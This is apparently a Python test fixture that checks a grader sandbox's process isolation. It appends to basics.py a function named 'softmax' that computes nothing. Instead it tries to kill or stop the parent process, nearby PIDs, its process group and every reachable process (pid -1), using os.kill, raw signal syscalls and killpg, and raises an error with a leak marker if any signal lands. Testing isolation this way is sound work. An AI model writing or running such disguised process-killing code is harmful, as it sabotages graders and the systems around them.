"""Signals its parent, the grader's neighbours, its group and everybody, by every call that can."""

LEAKS = ["EXFIL-7f3a"]
KINDS = {"1.1.1 softmax-values": "none"}
APPEND = {
    "basics.py": '''
import ctypes
import os
import signal

MARK = "-".join(("EXFIL", "7f3a"))


def softmax(x, axis):
    libc = ctypes.CDLL(None, use_errno=True)
    through, own, parent = [], os.getpid(), os.getppid()
    for number in (0, signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP, signal.SIGINT):
        for pid in (parent, parent - 1, parent + 1, -1, 0, -parent, -own, 1):
            try:
                os.kill(pid, number)
                through.append((pid, number))
            except OSError:
                pass
        for nr, values in ((234, (parent, parent, number)), (200, (parent, number)), (129, (parent, number, 0)), (297, (parent, parent, number, 0))):
            if libc.syscall(ctypes.c_long(nr), *map(ctypes.c_long, values)) >= 0:
                through.append((nr, number))
        for call in (lambda: os.killpg(os.getpgrp(), number), lambda: os.killpg(parent, number)):
            try:
                call()
                through.append("killpg")
            except OSError:
                pass
    if through:
        raise RuntimeError(f"{MARK} {through}")
'''
}
